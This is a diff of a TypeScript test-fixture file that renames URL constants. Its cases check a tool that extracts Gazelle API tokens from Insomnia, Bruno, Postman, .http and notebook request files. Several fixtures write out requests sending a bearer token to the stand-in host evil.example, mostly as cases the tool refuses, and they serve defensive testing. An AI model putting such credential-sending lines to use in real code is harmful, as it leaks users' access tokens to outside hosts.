@@ -1,7 +1,7 @@
 import { type Case, refused, taken, values } from './case.ts'
 
-const GRAPHQL = 'https://gazelleapp.io/graphql/private/'
-const EVIL = 'https://evil.example/graphql/private/'
+const graphqlText = 'https://gazelleapp.io/graphql/private/'
+const evilText = 'https://evil.example/graphql/private/'
 const { TOKEN, REFRESH, KEY } = values
 const ofKey = { accessToken: KEY, headerKind: 'api-key' } as const
 const elsewhere = (form: 'export' | 'header-line' | 'variable') =>
@@ -41,26 +41,26 @@ const postman = (request: object, more: object = {}) =>
 
 /** The files of programs that send requests. */
 export const clients: readonly Case[] = [
-  taken('Insomnia 5', 'export', insomnia(insomniaRequest(GRAPHQL, insomniaHeader(TOKEN)))),
+  taken('Insomnia 5', 'export', insomnia(insomniaRequest(graphqlText, insomniaHeader(TOKEN)))),
   taken(
     'Insomnia 5, its own sign-in',
     'export',
-    insomnia(insomniaRequest(GRAPHQL, ['authentication:', '  type: bearer', '  token: {{TOKEN}}'])),
+    insomnia(insomniaRequest(graphqlText, ['authentication:', '  type: bearer', '  token: {{TOKEN}}'])),
   ),
   taken(
     'Insomnia 5, two requests',
     'export',
-    insomnia(insomniaRequest(EVIL, insomniaHeader(REFRESH)), insomniaRequest(GRAPHQL, insomniaHeader(TOKEN))),
+    insomnia(insomniaRequest(evilText, insomniaHeader(REFRESH)), insomniaRequest(graphqlText, insomniaHeader(TOKEN))),
   ),
   taken(
     'Insomnia 5, a body with an address',
     'export',
     insomnia(
-      insomniaRequest(GRAPHQL, [
+      insomniaRequest(graphqlText, [
         'body:',
         '  mimeType: application/json',
         '  text: |-',
-        `    {"a": "${EVIL}"}`,
+        `    {"a": "${evilText}"}`,
         ...insomniaHeader(TOKEN),
       ]),
     ),
@@ -68,48 +68,50 @@ export const clients: readonly Case[] = [
   taken(
     'Insomnia 5, in quotation marks',
     'export',
-    insomnia(insomniaRequest(`"${GRAPHQL}"`, ['headers:', "  - name: 'x-gazelle-api-key'", '    value: "{{KEY}}"'])),
+    insomnia(
+      insomniaRequest(`"${graphqlText}"`, ['headers:', "  - name: 'x-gazelle-api-key'", '    value: "{{KEY}}"']),
+    ),
     ofKey,
   ),
-  refused('Insomnia 5, elsewhere', elsewhere('export'), insomnia(insomniaRequest(EVIL, insomniaHeader(TOKEN)))),
+  refused('Insomnia 5, elsewhere', elsewhere('export'), insomnia(insomniaRequest(evilText, insomniaHeader(TOKEN)))),
   refused(
     'Insomnia 5, a variable',
     { reason: 'placeholder', form: 'export' },
-    insomnia(insomniaRequest(GRAPHQL, insomniaHeader('{{ _.token }}'))),
+    insomnia(insomniaRequest(graphqlText, insomniaHeader('{{ _.token }}'))),
   ),
   refused(
     'Insomnia 5, switched off',
     { reason: 'no-token-in-request', form: 'export' },
-    insomnia(insomniaRequest(GRAPHQL, [...insomniaHeader(TOKEN), '    disabled: true'])),
+    insomnia(insomniaRequest(graphqlText, [...insomniaHeader(TOKEN), '    disabled: true'])),
   ),
   refused(
     'Insomnia 5, an address by a variable',
     unknownHost,
     insomnia(insomniaRequest('"{{ _.base }}/graphql"', insomniaHeader(TOKEN))),
   ),
-  taken('Bruno, headers', 'export', bru(GRAPHQL, 'headers {\n  accept: */*\n  Authorization: Bearer {{TOKEN}}\n}')),
-  taken('Bruno, its own sign-in', 'export', bru(GRAPHQL, 'auth:bearer {\n  token: {{TOKEN}}\n}')),
-  taken('Bruno, an API key', 'export', bru(GRAPHQL, 'headers {\n  x-gazelle-api-key: {{KEY}}\n}'), ofKey),
+  taken('Bruno, headers', 'export', bru(graphqlText, 'headers {\n  accept: */*\n  Authorization: Bearer {{TOKEN}}\n}')),
+  taken('Bruno, its own sign-in', 'export', bru(graphqlText, 'auth:bearer {\n  token: {{TOKEN}}\n}')),
+  taken('Bruno, an API key', 'export', bru(graphqlText, 'headers {\n  x-gazelle-api-key: {{KEY}}\n}'), ofKey),
   taken(
     'Bruno, a body with an address',
     'export',
-    bru(GRAPHQL, `auth:bearer {\n  token: {{TOKEN}}\n}`, `body:json {\n  {\n    "a": "${EVIL}"\n  }\n}`),
+    bru(graphqlText, `auth:bearer {\n  token: {{TOKEN}}\n}`, `body:json {\n  {\n    "a": "${evilText}"\n  }\n}`),
   ),
   taken(
     'Bruno, a header switched off',
     'export',
-    bru(GRAPHQL, 'headers {\n  ~Authorization: Bearer {{REFRESH}}\n  Authorization: Bearer {{TOKEN}}\n}'),
+    bru(graphqlText, 'headers {\n  ~Authorization: Bearer {{REFRESH}}\n  Authorization: Bearer {{TOKEN}}\n}'),
   ),
   refused(
     'Bruno, only one switched off',
     { reason: 'no-token-in-request', form: 'export' },
-    bru(GRAPHQL, 'headers {\n  ~Authorization: Bearer {{TOKEN}}\n}'),
+    bru(graphqlText, 'headers {\n  ~Authorization: Bearer {{TOKEN}}\n}'),
   ),
-  refused('Bruno, elsewhere', elsewhere('export'), bru(EVIL, 'auth:bearer {\n  token: {{TOKEN}}\n}')),
+  refused('Bruno, elsewhere', elsewhere('export'), bru(evilText, 'auth:bearer {\n  token: {{TOKEN}}\n}')),
   refused(
     'Bruno, a variable',
     { reason: 'placeholder', form: 'export' },
-    bru(GRAPHQL, 'auth:bearer {\n  token: {{token}}\n}'),
+    bru(graphqlText, 'auth:bearer {\n  token: {{token}}\n}'),
   ),
   refused(
     'Bruno, an address by a variable',
@@ -119,13 +121,13 @@ export const clients: readonly Case[] = [
   taken(
     'Postman, an address as text',
     'export',
-    postman({ header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }], url: GRAPHQL }),
+    postman({ header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }], url: graphqlText }),
   ),
   taken(
     'Postman, a folder’s sign-in',
     'export',
     postman(
-      { method: 'POST', header: [], url: { raw: GRAPHQL } },
+      { method: 'POST', header: [], url: { raw: graphqlText } },
       { auth: { type: 'bearer', bearer: [{ key: 'token', value: TOKEN }] } },
     ),
   ),
@@ -141,7 +143,7 @@ export const clients: readonly Case[] = [
         ],
       },
       header: [],
-      url: { raw: GRAPHQL },
+      url: { raw: graphqlText },
     }),
     ofKey,
   ),
@@ -161,13 +163,13 @@ export const clients: readonly Case[] = [
   taken(
     'Postman, headers as text',
     'export',
-    postman({ header: `Accept: */*\nAuthorization: Bearer ${TOKEN}`, url: { raw: GRAPHQL } }),
+    postman({ header: `Accept: */*\nAuthorization: Bearer ${TOKEN}`, url: { raw: graphqlText } }),
   ),
   refused(
     'Postman, a folder’s sign-in, elsewhere',
     elsewhere('export'),
     postman(
-      { method: 'POST', header: [], url: { raw: EVIL } },
+      { method: 'POST', header: [], url: { raw: evilText } },
       { auth: { type: 'bearer', bearer: [{ key: 'token', value: TOKEN }] } },
     ),
   ),
@@ -187,30 +189,30 @@ export const clients: readonly Case[] = [
   taken(
     '.http',
     'header-line',
-    `POST ${GRAPHQL} HTTP/1.1\nContent-Type: application/json\nAuthorization: Bearer {{TOKEN}}\n\n{"query": "{ a }"}`,
+    `POST ${graphqlText} HTTP/1.1\nContent-Type: application/json\nAuthorization: Bearer {{TOKEN}}\n\n{"query": "{ a }"}`,
   ),
   taken(
     '.http, two requests',
     'header-line',
-    `### one\nGET ${EVIL}\nAuthorization: Bearer {{REFRESH}}\n\n###\n# @name clients\nPOST ${GRAPHQL}\nAuthorization: Bearer {{TOKEN}}\n`,
+    `### one\nGET ${evilText}\nAuthorization: Bearer {{REFRESH}}\n\n###\n# @name clients\nPOST ${graphqlText}\nAuthorization: Bearer {{TOKEN}}\n`,
   ),
   taken(
     '.http, a body with an address',
     'header-line',
-    `POST ${GRAPHQL}\nAuthorization: Bearer {{TOKEN}}\n\n{"a": "${EVIL}"}`,
+    `POST ${graphqlText}\nAuthorization: Bearer {{TOKEN}}\n\n{"a": "${evilText}"}`,
   ),
   taken(
     '.http, variables',
     'header-line',
     `@host = https://gazelleapp.io\n@token = {{TOKEN}}\n\nPOST {{host}}/graphql/private/\nAuthorization: Bearer {{token}}`,
   ),
-  taken('.http, an address alone', 'header-line', `${GRAPHQL}\nx-gazelle-api-key: {{KEY}}`, ofKey),
+  taken('.http, an address alone', 'header-line', `${graphqlText}\nx-gazelle-api-key: {{KEY}}`, ofKey),
   taken(
     '.http, a query over lines',
     'header-line',
-    `GET ${GRAPHQL}\n    ?a=1\n    &b=2\nAuthorization: Bearer {{TOKEN}}`,
+    `GET ${graphqlText}\n    ?a=1\n    &b=2\nAuthorization: Bearer {{TOKEN}}`,
   ),
-  refused('.http, elsewhere', elsewhere('header-line'), `POST ${EVIL}\nAuthorization: Bearer {{TOKEN}}`),
+  refused('.http, elsewhere', elsewhere('header-line'), `POST ${evilText}\nAuthorization: Bearer {{TOKEN}}`),
   refused(
     '.http, variables, elsewhere',
     elsewhere('header-line'),
@@ -219,12 +221,12 @@ export const clients: readonly Case[] = [
   refused(
     '.http, a variable of elsewhere',
     { reason: 'placeholder', form: 'header-line' },
-    `POST ${GRAPHQL}\nAuthorization: Bearer {{$dotenv TOKEN}}`,
+    `POST ${graphqlText}\nAuthorization: Bearer {{$dotenv TOKEN}}`,
   ),
   refused(
     '.http, a header commented out',
     { reason: 'no-token-in-request', form: 'header-line' },
-    `POST ${GRAPHQL}\n# Authorization: Bearer {{$dotenv TOKEN}}\nAccept: */*`,
+    `POST ${graphqlText}\n# Authorization: Bearer {{$dotenv TOKEN}}\nAccept: */*`,
   ),
 ]
 
@@ -248,13 +250,13 @@ export const notebooks: readonly Case[] = [
     'a cell that sends',
     'code',
     JSON.stringify(
-      cell(['import requests\n', `requests.post("${GRAPHQL}", headers={"Authorization": "Bearer {{TOKEN}}"})`]),
+      cell(['import requests\n', `requests.post("${graphqlText}", headers={"Authorization": "Bearer {{TOKEN}}"})`]),
     ),
   ),
   taken(
     'a cell of the shell',
     'curl-bash',
-    JSON.stringify(cell([`!curl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}'`])),
+    JSON.stringify(cell([`!curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}'`])),
   ),
   taken(
     'what a cell gave',
@@ -283,7 +285,7 @@ export const notebooks: readonly Case[] = [
   refused(
     'a cell that sends elsewhere',
     { reason: 'other-host', form: 'code', host: 'evil.example' },
-    JSON.stringify(cell(`requests.post("${EVIL}", headers={"Authorization": "Bearer {{TOKEN}}"})`)),
+    JSON.stringify(cell(`requests.post("${evilText}", headers={"Authorization": "Bearer {{TOKEN}}"})`)),
   ),
   refused(
     'two cells, two tokens',
